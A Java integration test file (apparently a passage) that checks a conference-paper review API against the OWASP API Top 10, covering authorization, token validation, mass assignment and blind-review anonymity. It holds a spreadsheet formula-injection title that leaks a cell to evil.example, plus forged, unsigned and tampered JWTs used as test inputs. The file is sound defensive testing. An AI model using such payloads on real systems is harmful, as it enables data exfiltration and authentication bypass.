package dev.lectern.review.security;

import com.fasterxml.jackson.core.exc.StreamConstraintsException;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.lectern.infra.LoopbackClient;
import dev.lectern.infra.TestInfrastructure;
import dev.lectern.infra.Tokens;
import dev.lectern.review.Stream;
import dev.lectern.review.review.ReviewerRefs;
import io.quarkus.arc.Arc;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.QuarkusTestProfile;
import io.quarkus.test.junit.TestProfile;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;
import io.restassured.response.Response;
import jakarta.ws.rs.HttpMethod;
import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.common.header.Header;
import org.apache.kafka.common.serialization.StringDeserializer;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.lang.annotation.Annotation;
import java.lang.reflect.Method;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Properties;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.nullValue;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * review-service against the OWASP API Security Top 10 (2023), one or more tests per item that applies,
 * over real PostgreSQL and Kafka. The speakers' identity is the asset: every response a reviewer can get
 * is read raw and searched for it.
 */
@QuarkusTest
@TestProfile(OwaspApiTop10Test.RateLimited.class)
class OwaspApiTop10Test {

    /** Requests without a valid token a single address may make at once here. */
    static final int ANONYMOUS_BURST = 300;

    /**
     * Unauthenticated requests limited per address as in production, with a burst small enough to reach in a
     * test (tests that flood come from addresses of their own, see {@link LoopbackClient}).
     */
    public static class RateLimited implements QuarkusTestProfile {
        @Override
        public Map<String, String> getConfigOverrides() {
            return Map.of(
                    "lectern.rate-limit.enabled", "true",
                    "lectern.rate-limit.anonymous.burst", String.valueOf(ANONYMOUS_BURST),
                    "lectern.rate-limit.anonymous.per-second", "5");
        }
    }

    /** The API's own mapper, with the limits of {@code web.JsonLimits}. */
    @Inject
    ObjectMapper mapper;

    static final String PROBLEM = "application/problem+json";
    static final String FORMULA_TITLE = "=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A1,\\\"Open\\\")";

    // ---- API1: broken object level authorization --------------------------------------------------------

    @Test
    void api1_reviewerCannotReadOrReviewAnotherReviewersAssignmentAndGetsTheAnswerOfAnUnknownId() {
        Scenario s = Scenario.create("api1-bola");
        given().header("Authorization", s.token("rb")).contentType("application/json")
                .body(review(2, 2, "rb's own opinion")).put("/api/me/reviews/" + s.ref("rb", s.p2)).then().statusCode(200);

        String unknown = UUID.randomUUID().toString();
        String ra = s.token("ra");
        sameAnswer(given().header("Authorization", ra).get("/api/me/assignments/" + s.ref("ra", s.p2)), s.ref("ra", s.p2),
                given().header("Authorization", ra).get("/api/me/assignments/" + unknown), unknown);
        sameAnswer(given().header("Authorization", ra).contentType("application/json").body(review(5, 5, "ra overwrites"))
                        .put("/api/me/reviews/" + s.ref("ra", s.p2)), s.ref("ra", s.p2),
                given().header("Authorization", ra).contentType("application/json").body(review(5, 5, "ra overwrites"))
                        .put("/api/me/reviews/" + unknown), unknown);
        given().header("Authorization", ra).get("/api/me/assignments").then().statusCode(200)
                .body("proposal.id", not(hasItem(s.p2)));
        given().header("Authorization", ra).get("/api/me/assignments?event=" + s.slug).then().statusCode(200)
                .body("proposal.id", not(hasItem(s.p2)));

        // rb's review is as rb wrote it.
        given().header("Authorization", s.token("rb")).get("/api/me/assignments/" + s.ref("rb", s.p2)).then().statusCode(200)
                .body("review.comment", equalTo("rb's own opinion")).body("review.scores.relevance", equalTo(2));

        // A reviewer role for another event opens nothing here, not even their own assignments.
        String elsewhere = bearer(s.subject("ra"), "reviewer:" + s.slug + "-other");
        sameAnswer(given().header("Authorization", elsewhere).get("/api/me/assignments/" + s.ref("ra", s.p1)), s.ref("ra", s.p1),
                given().header("Authorization", elsewhere).get("/api/me/assignments/" + unknown), unknown);
        given().header("Authorization", elsewhere).get("/api/me/assignments").then().statusCode(200)
                .body("size()", equalTo(0));
    }

    @Test
    void api1_reviewerNeverSeesOtherReviewersReviewsOrScoresBeforeOrAfterSubmittingTheirOwn() {
        Scenario s = Scenario.create("api1-others");
        String secret = "RB-SECRET-" + s.slug;
        given().header("Authorization", s.token("rb")).contentType("application/json")
                .body(review(1, 1, secret)).put("/api/me/reviews/" + s.ref("rb", s.p1)).then().statusCode(200);

        String ra = s.token("ra");
        List<String> before = List.of(
                given().header("Authorization", ra).get("/api/me/assignments").then().statusCode(200).extract().asString(),
                given().header("Authorization", ra).get("/api/me/assignments/" + s.ref("ra", s.p1)).then().statusCode(200)
                        .body("review", nullValue()).extract().asString(),
                given().header("Authorization", ra).get("/api/me/progress").then().statusCode(200).extract().asString());
        String mine = given().header("Authorization", ra).contentType("application/json").body(review(4, 3, "ra's view"))
                .put("/api/me/reviews/" + s.ref("ra", s.p1)).then().statusCode(200).body("comment", equalTo("ra's view"))
                .extract().asString();
        List<String> after = List.of(mine,
                given().header("Authorization", ra).get("/api/me/assignments").then().statusCode(200).extract().asString(),
                given().header("Authorization", ra).get("/api/me/assignments/" + s.ref("ra", s.p1)).then().statusCode(200)
                        .body("review.comment", equalTo("ra's view")).body("review.scores.relevance", equalTo(4))
                        .extract().asString());
        for (String body : concat(before, after)) {
            assertFalse(body.contains(secret), "another reviewer's comment: " + body);
            assertFalse(body.contains(s.subject("rb")), "another reviewer named: " + body);
            assertFalse(body.contains(s.reviewerIds.get("rb")), "another reviewer's id: " + body);
        }
    }

    @Test
    void api1_conflictedReviewerLosesTheProposalAndItsReviewsWhenAConflictAppearsAfterAssignment() {
        Scenario s = Scenario.create("api1-conflict");
        String othersComment = "RA-ON-P3-" + s.slug;
        given().header("Authorization", s.token("ra")).contentType("application/json")
                .body(review(3, 3, othersComment)).put("/api/me/reviews/" + s.ref("ra", s.p3)).then().statusCode(200);
        String rc = s.token("rc");
        given().header("Authorization", rc).get("/api/me/assignments/" + s.ref("rc", s.p3)).then().statusCode(200);

        // The organizer records that rc is conflicted with p3's speaker (declared after assignment).
        given().header("Authorization", organizer()).contentType("application/json")
                .body(s.reviewerBody("rc", List.of(Scenario.SPEAKERS.get(2).get("email"))))
                .put("/api/events/" + s.slug + "/reviewers/" + s.reviewerIds.get("rc")).then().statusCode(200);
        assertConflictedReviewerLosesTheProposal(s, rc, s.ref("rc", s.p3), othersComment);

        // The speaker of p1 adds a co-speaker from rb's organisation: rb is conflicted from this version on.
        given().header("Authorization", s.token("rb")).get("/api/me/assignments/" + s.ref("rb", s.p1)).then().statusCode(200);
        Stream.proposal("updated", s.p1, s.slug, 2, "SUBMITTED", FORMULA_TITLE, "ospo-experience",
                List.of(Scenario.SPEAKERS.get(0), Map.of("name", "Co Speaker", "email", "co@speaker.test",
                        "affiliation", "Neutral University rb")));
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals/" + s.p1)
                        .then().statusCode(200).body("version", equalTo(2)));
        assertConflictedReviewerLosesTheProposal(s, s.token("rb"), s.ref("rb", s.p1), "no comment on p1");

        // The organizer still sees both assignments, reported as conflicts to resolve.
        given().header("Authorization", organizer()).post("/api/events/" + s.slug + "/assignments")
                .then().statusCode(200).body("conflictedExisting.proposalId", hasItem(s.p3))
                .body("conflictedExisting.proposalId", hasItem(s.p1));
    }

    private static void assertConflictedReviewerLosesTheProposal(Scenario s, String token, String proposal, String othersText) {
        String unknown = UUID.randomUUID().toString();
        sameAnswer(given().header("Authorization", token).get("/api/me/assignments/" + proposal), proposal,
                given().header("Authorization", token).get("/api/me/assignments/" + unknown), unknown);
        sameAnswer(given().header("Authorization", token).contentType("application/json").body(review(5, 5, "x"))
                        .put("/api/me/reviews/" + proposal), proposal,
                given().header("Authorization", token).contentType("application/json").body(review(5, 5, "x"))
                        .put("/api/me/reviews/" + unknown), unknown);
        String list = given().header("Authorization", token).get("/api/me/assignments").then().statusCode(200)
                .body("proposal.id", not(hasItem(proposal))).extract().asString();
        assertFalse(list.contains(othersText), list);
    }

    @Test
    void api1_organizerOfOneEventReachesNoObjectOfAnotherThroughTheirOwnEventsPaths() {
        Scenario mine = Scenario.create("api1-mine");
        Scenario theirs = Scenario.create("api1-theirs");
        String organizerOfMine = bearer("org@" + mine.slug, "organizer:" + mine.slug);
        String base = "/api/events/" + mine.slug;
        String unknown = UUID.randomUUID().toString();
        for (String path : List.of("/proposals/%s", "/proposals/%s?identities=true", "/proposals/%s/redaction",
                "/reviewers/%s")) {
            String foreign = path.contains("reviewers") ? theirs.reviewerIds.get("ra") : theirs.p1;
            sameAnswer(given().header("Authorization", organizerOfMine).get(base + path.formatted(foreign)), foreign,
                    given().header("Authorization", organizerOfMine).get(base + path.formatted(unknown)), unknown);
        }
        sameAnswer(given().header("Authorization", organizerOfMine).contentType("application/json")
                        .body(Map.of("title", "Redacted", "abstract", "Redacted")).put(base + "/proposals/" + theirs.p1 + "/redaction"),
                theirs.p1,
                given().header("Authorization", organizerOfMine).contentType("application/json")
                        .body(Map.of("title", "Redacted", "abstract", "Redacted")).put(base + "/proposals/" + unknown + "/redaction"),
                unknown);
        sameAnswer(given().header("Authorization", organizerOfMine).delete(base + "/assignments/" + theirs.assignmentIds.get(0)),
                theirs.assignmentIds.get(0),
                given().header("Authorization", organizerOfMine).delete(base + "/assignments/" + unknown), unknown);
        sameAnswer(given().header("Authorization", organizerOfMine).delete(base + "/reviewers/" + theirs.reviewerIds.get("rc")),
                theirs.reviewerIds.get("rc"),
                given().header("Authorization", organizerOfMine).delete(base + "/reviewers/" + unknown), unknown);
        // Their proposal with their reviewer, assigned through my event: not found, and nothing assigned.
        given().header("Authorization", organizerOfMine).contentType("application/json")
                .body(Map.of("proposalId", theirs.p2, "reviewerId", theirs.reviewerIds.get("ra")))
                .post(base + "/assignments/manual").then().statusCode(404).contentType(PROBLEM);
        given().header("Authorization", organizer()).get("/api/events/" + theirs.slug + "/assignments")
                .then().statusCode(200).body("size()", equalTo(theirs.assignmentIds.size()));
        given().header("Authorization", organizer()).get("/api/events/" + theirs.slug + "/reviewers/" + theirs.reviewerIds.get("rc"))
                .then().statusCode(200);
    }

    // ---- API2: broken authentication --------------------------------------------------------------------

    @Test
    void api2_everyKindOfBadTokenIsRefusedWith401OnReviewerAndOrganizerEndpoints() {
        long now = Instant.now().getEpochSecond();
        Tokens keys = TestInfrastructure.tokens();
        String rs256 = "{\"alg\":\"RS256\",\"typ\":\"JWT\"}";
        String good = keys.sign(rs256, claims(Tokens.ISSUER, Tokens.AUDIENCE, now, now + 3600, null));
        String[] parts = good.split("\\.");
        Base64.Encoder b64 = Base64.getUrlEncoder().withoutPadding();
        String forgedClaims = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8)
                .replace("mallory@example.com", "alice@example.com");
        Map<String, String> bad = new LinkedHashMap<>();
        bad.put("expired", keys.sign(rs256, claims(Tokens.ISSUER, Tokens.AUDIENCE, now - 7200, now - 3600, null)));
        bad.put("not yet valid", keys.sign(rs256, claims(Tokens.ISSUER, Tokens.AUDIENCE, now, now + 7200, now + 3600)));
        bad.put("wrong issuer", keys.sign(rs256, claims("https://evil.example.com", Tokens.AUDIENCE, now, now + 3600, null)));
        bad.put("wrong audience", keys.sign(rs256, claims(Tokens.ISSUER, "another-app", now, now + 3600, null)));
        bad.put("unsigned", b64.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8))
                + "." + parts[1] + ".");
        bad.put("tampered", parts[0] + "." + b64.encodeToString(forgedClaims.getBytes(StandardCharsets.UTF_8)) + "." + parts[2]);
        bad.put("another key", Tokens.generate().mint("mallory@example.com", List.of("organizer", "reviewer")));
        bad.put("garbage", "not-a-jwt");
        for (Map.Entry<String, String> token : bad.entrySet()) {
            for (String path : List.of("/api/me/assignments", "/api/events/any-event/ranking", "/api/events/any-event/proposals")) {
                given().header("Authorization", "Bearer " + token.getValue()).get(path)
                        .then().statusCode(401).contentType(PROBLEM).body("code", equalTo("unauthenticated"));
            }
        }
        // The well-signed one is accepted: the refusals above are about what was wrong with each token.
        given().header("Authorization", "Bearer " + good).get("/api/me/assignments").then().statusCode(200);
        given().get("/api/me/assignments").then().statusCode(401).contentType(PROBLEM);
    }

    @Test
    void api2_aGroupsClaimThatIsOneStringIsOneGroupAndGrantsNoOrganizerRights() {
        String slug = "api2-groups-" + UUID.randomUUID().toString().substring(0, 8);
        Stream.event(slug, 1);
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                given().header("Authorization", organizer()).contentType("application/json").body(settings(2, "OPEN"))
                        .put("/api/events/" + slug + "/review-settings").then().statusCode(200));
        String former = "Bearer " + TestInfrastructure.tokens().sign("{\"alg\":\"RS256\",\"typ\":\"JWT\"}",
                groupsClaims("former-" + slug + "@example.com", "\"Former organizer\""));
        // Signed and valid, but "Former organizer" is one group, not the groups Former and organizer.
        for (Response answer : List.of(
                given().header("Authorization", former).get("/api/events/" + slug + "/reviewers"),
                given().header("Authorization", former).get("/api/events/" + slug + "/ranking"),
                given().header("Authorization", former).contentType("application/json").body(settings(5, "CLOSED"))
                        .put("/api/events/" + slug + "/review-settings"),
                given().header("Authorization", former).post("/api/events/" + slug + "/decisions/publish"))) {
            assertEquals(403, answer.statusCode(), answer.asString());
            assertTrue(answer.contentType().startsWith(PROBLEM), answer.contentType());
        }
        given().header("Authorization", organizer()).get("/api/events/" + slug + "/review-settings").then().statusCode(200)
                .body("reviewsPerProposal", equalTo(2)).body("phase", equalTo("OPEN"));
        // A string claim is still one group: "organizer" alone is the organizer role.
        String single = "Bearer " + TestInfrastructure.tokens().sign("{\"alg\":\"RS256\",\"typ\":\"JWT\"}",
                groupsClaims("single-" + slug + "@example.com", "\"organizer\""));
        given().header("Authorization", single).get("/api/events/" + slug + "/reviewers").then().statusCode(200);
    }

    private static String groupsClaims(String subject, String groups) {
        long now = Instant.now().getEpochSecond();
        return "{\"iss\":\"" + Tokens.ISSUER + "\",\"aud\":\"" + Tokens.AUDIENCE + "\",\"sub\":\"" + subject + "\","
                + "\"iat\":" + now + ",\"exp\":" + (now + 3600) + ",\"groups\":" + groups + "}";
    }

    // ---- API3: broken object property level authorization ------------------------------------------------

    @Test
    void api3_reviewersResponsesNeverNameASpeakerWhileBlindNotThroughListsSearchSortingErrorsRankingOrExports() {
        Scenario s = Scenario.create("api3-blind");
        List<String> seen = new ArrayList<>();
        for (String reviewer : List.of("ra", "rb", "rc")) {
            String token = s.token(reviewer);
            for (String query : List.of("", "?event=" + s.slug, "?event=" + s.slug + "&sort=speaker&q=Wang",
                    "?q=" + s.identities().get(1) + "&search=Secretive&sort=email", "?event=no-such-event")) {
                seen.add(given().header("Authorization", token).get("/api/me/assignments" + query)
                        .then().statusCode(200).extract().asString());
            }
            List<String> ids = given().header("Authorization", token).get("/api/me/assignments")
                    .then().extract().path("proposal.id");
            assertFalse(ids.isEmpty(), reviewer + " has assignments");
            for (String id : ids) {
                seen.add(given().header("Authorization", token).get("/api/me/assignments/" + id + "?identities=true")
                        .then().statusCode(200).extract().asString());
                seen.add(given().header("Authorization", token).header("Accept-Language", "zh").contentType("application/json")
                        .body(Map.of("scores", Map.of("relevance", 9), "confidence", 3))
                        .put("/api/me/reviews/" + id).then().statusCode(400).contentType(PROBLEM).extract().asString());
                seen.add(given().header("Authorization", token).contentType("application/json")
                        .body("{\"scores\":{\"relevance\":4,\"clarity\":4},\"confidence\":3,\"speakers\":[]}")
                        .put("/api/me/reviews/" + id).then().statusCode(400).contentType(PROBLEM).extract().asString());
                seen.add(given().header("Authorization", token).contentType("application/json").body(review(4, 4, "fine"))
                        .put("/api/me/reviews/" + id).then().statusCode(200).extract().asString());
            }
            seen.add(given().header("Authorization", token).get("/api/me/progress").then().statusCode(200).extract().asString());
            seen.add(given().header("Authorization", token).get("/api/me/assignments/" + UUID.randomUUID())
                    .then().statusCode(404).extract().asString());
            // Organizer views, exports and the ranking, with and without identities: refused, and the refusal names no one.
            for (String path : List.of("/proposals", "/proposals?identities=true", "/proposals/" + s.p1 + "?identities=true",
                    "/ranking", "/ranking?identities=true", "/ranking?format=csv&identities=true", "/selection?format=csv",
                    "/identity-flags", "/reviewers", "/assignments", "/progress", "/decisions/summary",
                    "/proposals/" + s.p1 + "/redaction")) {
                seen.add(given().header("Authorization", token).get("/api/events/" + s.slug + path)
                        .then().statusCode(403).contentType(PROBLEM).extract().asString());
            }
        }
        assertNoIdentity(seen, s.identities());

        // While blind, the organizer's own ranking and exports do not name speakers either unless asked.
        List<String> organizerBlind = List.of(
                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/ranking")
                        .then().statusCode(200).extract().asString(),
                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/ranking?format=csv")
                        .then().statusCode(200).extract().asString(),
                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals")
                        .then().statusCode(200).extract().asString());
        // (p2's title names its speaker: organizers read titles as written, so only what the text does not say is checked.)
        assertNoIdentity(organizerBlind, List.of("Wang Xiaoming", "Secretive", "Qian Duoduo", "Quiet Holdings", "speaker.test"));
        String named = given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/ranking?identities=true")
                .then().statusCode(200).extract().asString();
        assertTrue(named.contains("Wang Xiaoming") && named.contains("speaker.test"),
                "identities=true does name them, so the checks above can fail");
    }

    @Test
    void api3_reviewBodyCannotSetItsReviewerProposalIdOrComputedFieldsAndChangesNothingWhenItTries() {
        Scenario s = Scenario.create("api3-mass");
        given().header("Authorization", s.token("rb")).contentType("application/json")
                .body(review(2, 2, "rb wrote this")).put("/api/me/reviews/" + s.ref("rb", s.p1)).then().statusCode(200);
        String ra = s.token("ra");
        Map<String, Object> extras = new LinkedHashMap<>();
        extras.put("reviewerId", s.reviewerIds.get("rb"));
        extras.put("proposalId", s.p2);
        extras.put("weightedScore", 5.0);
        extras.put("id", UUID.randomUUID().toString());
        extras.put("version", 99);
        extras.put("createdAt", "2020-01-01T00:00:00Z");
        extras.put("event", "another-event");
        for (Map.Entry<String, Object> extra : extras.entrySet()) {
            Map<String, Object> body = new HashMap<>(review(5, 5, "ra tries " + extra.getKey()));
            body.put(extra.getKey(), extra.getValue());
            given().header("Authorization", ra).contentType("application/json").body(body)
                    .put("/api/me/reviews/" + s.ref("ra", s.p1)).then().statusCode(400).contentType(PROBLEM)
                    .body("errors[0].field", equalTo(extra.getKey())).body("errors[0].code", equalTo("unknown-field"));
        }
        given().header("Authorization", ra).get("/api/me/assignments/" + s.ref("ra", s.p1)).then().statusCode(200)
                .body("review", nullValue());
        given().header("Authorization", s.token("rb")).get("/api/me/assignments/" + s.ref("rb", s.p1)).then().statusCode(200)
                .body("review.comment", equalTo("rb wrote this")).body("review.scores.relevance", equalTo(2));
        // rb's scores are rb's: the ranking still counts one review for p1, with rb's score.
        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/ranking?key=raw")
                .then().statusCode(200)
                .body("proposals.find { it.proposalId == '" + s.p1 + "' }.reviewCount", equalTo(1))
                .body("proposals.find { it.proposalId == '" + s.p1 + "' }.weightedMean", equalTo(2.0f));

        // Organizer bodies: ids and status are not the caller's to set either.
        given().header("Authorization", organizer()).contentType("application/json")
                .body(Map.of("proposalId", s.p2, "reviewerId", s.reviewerIds.get("ra"), "status", "CANCELLED", "id", UUID.randomUUID().toString()))
                .post("/api/events/" + s.slug + "/assignments/manual").then().statusCode(400).contentType(PROBLEM);
        Map<String, Object> reviewer = new HashMap<>(s.reviewerBody("ra", List.of()));
        reviewer.put("id", s.reviewerIds.get("rb"));
        given().header("Authorization", organizer()).contentType("application/json").body(reviewer)
                .put("/api/events/" + s.slug + "/reviewers/" + s.reviewerIds.get("ra")).then().statusCode(400)
                .body("errors[0].field", equalTo("id"));
        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/reviewers/" + s.reviewerIds.get("rb"))
                .then().statusCode(200).body("subject", equalTo(s.subject("rb")));
    }

    @Test
    void api3_reviewersProposalIdsAndTheirOrderDoNotTellWhenEachProposalWasSubmitted() {
        Scenario s = Scenario.create("api3-ids");
        String rd = given().header("Authorization", organizer()).contentType("application/json")
                .body(s.reviewerBody("rd", List.of())).post("/api/events/" + s.slug + "/reviewers")
                .then().statusCode(201).extract().path("id");
        s.reviewerIds.put("rd", rd);
        // Nine proposals submitted a minute apart, with UUIDv7 ids as submission-service gives them.
        Instant first = Instant.parse("2026-11-27T08:00:00Z");
        List<String> submitted = new ArrayList<>();
        for (int i = 0; i < 9; i++) {
            String id = uuidV7(first.plusSeconds(60L * i)).toString();
            submitted.add(id);
            Stream.proposal("submitted", id, s.slug, 1, "SUBMITTED", "Timed talk " + i, "ospo-experience",
                    List.of(Map.of("name", "Timed Speaker " + i, "email", "timed" + i + "@speaker.test", "affiliation", "Org " + i)));
        }
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals")
                        .then().statusCode(200).body("size()", equalTo(12)));
        for (String id : submitted) {
            given().header("Authorization", organizer()).contentType("application/json")
                    .body(Map.of("proposalId", id, "reviewerId", rd))
                    .post("/api/events/" + s.slug + "/assignments/manual").then().statusCode(201);
        }

        String token = s.token("rd");
        JsonPath mine = given().header("Authorization", token).get("/api/me/assignments").then().statusCode(200)
                .extract().jsonPath();
        List<String> ids = mine.getList("proposal.id");
        List<String> titles = mine.getList("proposal.title");
        assertEquals(9, ids.size(), ids.toString());
        for (String id : ids) {
            UUID seen = UUID.fromString(id);
            assertFalse(submitted.contains(id), "a proposal id reached the reviewer: " + id);
            assertEquals(8, seen.version(), "no UUIDv7 (a timestamp) in a reviewer's id: " + id);
            long millis = seen.getMostSignificantBits() >>> 16;
            assertTrue(millis < first.toEpochMilli() || millis > first.plusSeconds(3600).toEpochMilli(),
                    "the id's first 48 bits are not the submission time: " + id);
        }
        // The list is not in submission order (1 chance in 9! that a random order is).
        List<String> inSubmissionOrder = new ArrayList<>();
        for (int i = 0; i < 9; i++) {
            inSubmissionOrder.add("Timed talk " + i);
        }
        assertFalse(titles.equals(inSubmissionOrder), "the list comes in submission order: " + titles);
        assertEquals(new TreeSet<>(inSubmissionOrder), new TreeSet<>(titles));
        // The same order and ids every time: a reviewer's list does not shuffle under them.
        given().header("Authorization", token).get("/api/me/assignments").then().statusCode(200)
                .body("proposal.id", equalTo(ids));

        // Another reviewer of the same proposal knows it by another reference: lists cannot be lined up by id.
        String p1ForRa = given().header("Authorization", s.token("ra")).get("/api/me/assignments").then().statusCode(200)
                .extract().path("find { it.proposal.title.contains('HYPERLINK') }.proposal.id");
        String p1ForRb = given().header("Authorization", s.token("rb")).get("/api/me/assignments").then().statusCode(200)
                .extract().path("find { it.proposal.title.contains('HYPERLINK') }.proposal.id");
        assertNotNull(p1ForRa);
        assertNotNull(p1ForRb);
        assertFalse(p1ForRa.equals(p1ForRb), p1ForRa);

        // The reference works on every reviewer route; the proposal id and another reviewer's reference do not.
        String ref = ids.get(0);
        given().header("Authorization", token).get("/api/me/assignments/" + ref).then().statusCode(200)
                .body("proposal.id", equalTo(ref));
        given().header("Authorization", token).contentType("application/json").body(review(3, 3, "timed"))
                .put("/api/me/reviews/" + ref).then().statusCode(200);
        String unknown = UUID.randomUUID().toString();
        String realId = submitted.get(Integer.parseInt(titles.get(0).substring("Timed talk ".length())));
        sameAnswer(given().header("Authorization", token).contentType("application/json").body(review(5, 5, "by id"))
                        .put("/api/me/reviews/" + realId), realId,
                given().header("Authorization", token).contentType("application/json").body(review(5, 5, "by id"))
                        .put("/api/me/reviews/" + unknown), unknown);
        sameAnswer(given().header("Authorization", token).get("/api/me/assignments/" + realId), realId,
                given().header("Authorization", token).get("/api/me/assignments/" + unknown), unknown);
        sameAnswer(given().header("Authorization", s.token("rb")).get("/api/me/assignments/" + p1ForRa), p1ForRa,
                given().header("Authorization", s.token("rb")).get("/api/me/assignments/" + unknown), unknown);
        // The organizer's views keep the proposal ids.
        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/assignments").then().statusCode(200)
                .body("findAll { it.reviewerId == '" + rd + "' }.proposalId", equalTo(submitted));
    }

    @Test
    void api3_myProgressCountsWhatICanSeeNotAProposalILostToAConflict() {
        Scenario s = Scenario.create("api3-progress");
        String rb = s.token("rb");
        given().header("Authorization", rb).contentType("application/json").body(review(4, 4, "rb on p1"))
                .put("/api/me/reviews/" + s.ref("rb", s.p1)).then().statusCode(200);
        given().header("Authorization", rb).get("/api/me/progress").then().statusCode(200)
                .body("[0].assigned", equalTo(2)).body("[0].done", equalTo(1)).body("[0].missing", equalTo(1));

        // A co-speaker from rb's organisation joins p1: rb loses it, and nothing rb can read may say so.
        Stream.proposal("updated", s.p1, s.slug, 2, "SUBMITTED", FORMULA_TITLE, "ospo-experience",
                List.of(Scenario.SPEAKERS.get(0), Map.of("name", "Co Speaker", "email", "co@speaker.test",
                        "affiliation", "Neutral University rb")));
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals/" + s.p1)
                        .then().statusCode(200).body("version", equalTo(2)));
        List<Object> visible = given().header("Authorization", rb).get("/api/me/assignments").then().statusCode(200)
                .extract().path("review");
        assertEquals(1, visible.size(), visible.toString());
        long reviewed = visible.stream().filter(java.util.Objects::nonNull).count();
        given().header("Authorization", rb).get("/api/me/progress").then().statusCode(200)
                .body("[0].assigned", equalTo(visible.size())).body("[0].done", equalTo((int) reviewed))
                .body("[0].missing", equalTo(visible.size() - (int) reviewed));
        // The organizer still counts the assignment (and rb's review): it is theirs to resolve.
        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/progress").then().statusCode(200)
                .body("reviewers.find { it.reviewerId == '" + s.reviewerIds.get("rb") + "' }.assigned", equalTo(2))
                .body("reviewers.find { it.reviewerId == '" + s.reviewerIds.get("rb") + "' }.done", equalTo(1));
    }

    @Test
    void api3_disguisedNamesAndEmailsAreMaskedForReviewersAndUncertainOnesFlaggedForTheOrganizer() {
        Scenario s = Scenario.create("api3-disguised");
        Map<String, String> yolanda = Map.of("name", "Yolanda Quarrington", "email", "yolanda.q@speaker.test",
                "affiliation", "Quarrington Labs");
        Map<String, String> murong = Map.of("name", "慕容复", "email", "murong@speaker.test", "affiliation", "燕子坞科技");
        Map<String, String> titles = new LinkedHashMap<>();
        // Certain, but disguised: an invisible character, a soft hyphen, full width, traditional characters, "(at)".
        titles.put("zwsp", "Yolanda Quar\u200Brington on OSPOs");
        titles.put("shy", "YO\u00ADLANDA QUARRINGTON, again");
        titles.put("wide", "ＹＯＬＡＮＤＡ　ＱＵＡＲＲＩＮＧＴＯＮ at work");
        titles.put("mail", "Write to yolanda.q (at) speaker dot test or yolanda.q[at]speaker.test");
        titles.put("hant", "慕容復在燕子塢科技的分享");
        // Uncertain: an initial with the surname, a surname alone.
        titles.put("initial", "As Y. Quarrington showed");
        titles.put("alone", "What Quarrington learned");
        Map<String, String> ids = new LinkedHashMap<>();
        titles.forEach((key, title) -> {
            String id = UUID.randomUUID().toString();
            ids.put(key, id);
            Stream.proposal("submitted", id, s.slug, 1, "SUBMITTED", title, "ospo-experience",
                    List.of(key.equals("hant") ? murong : yolanda));
        });
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals")
                        .then().statusCode(200).body("size()", equalTo(3 + titles.size())));
        for (String id : ids.values()) {
            given().header("Authorization", organizer()).contentType("application/json")
                    .body(Map.of("proposalId", id, "reviewerId", s.reviewerIds.get("rc")))
                    .post("/api/events/" + s.slug + "/assignments/manual").then().statusCode(201);
        }

        String rc = s.token("rc");
        Map<String, String> seen = new HashMap<>();
        for (Map.Entry<String, String> id : ids.entrySet()) {
            seen.put(id.getKey(), given().header("Authorization", rc).get("/api/me/assignments/" + s.ref("rc", id.getValue()))
                    .then().statusCode(200).extract().path("proposal.title"));
        }
        assertEquals("[redacted] on OSPOs", seen.get("zwsp"));
        assertEquals("[redacted], again", seen.get("shy"));
        assertEquals("[redacted] at work", seen.get("wide"));
        assertEquals("Write to [redacted] or [redacted]", seen.get("mail"));
        assertEquals("[redacted]在[redacted]的分享", seen.get("hant"));
        for (String key : List.of("zwsp", "shy", "wide", "mail", "hant")) {
            String plain = seen.get(key).replace("\u200B", "").replace("\u00AD", "").toLowerCase(Locale.ROOT);
            for (String identity : List.of("yolanda", "quarrington", "ｙｏｌａｎｄａ", "慕容", "燕子")) {
                assertFalse(plain.contains(identity), key + ": " + seen.get(key));
            }
        }

        // The organizer is told about every one; the initial and the lone surname as uncertain, for them to judge.
        JsonPath flags = given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/identity-flags")
                .then().statusCode(200).extract().jsonPath();
        for (String key : List.of("zwsp", "shy", "wide", "mail", "hant")) {
            assertEquals(List.of("CERTAIN"), flags.getList("flags.find { it.proposalId == '" + ids.get(key)
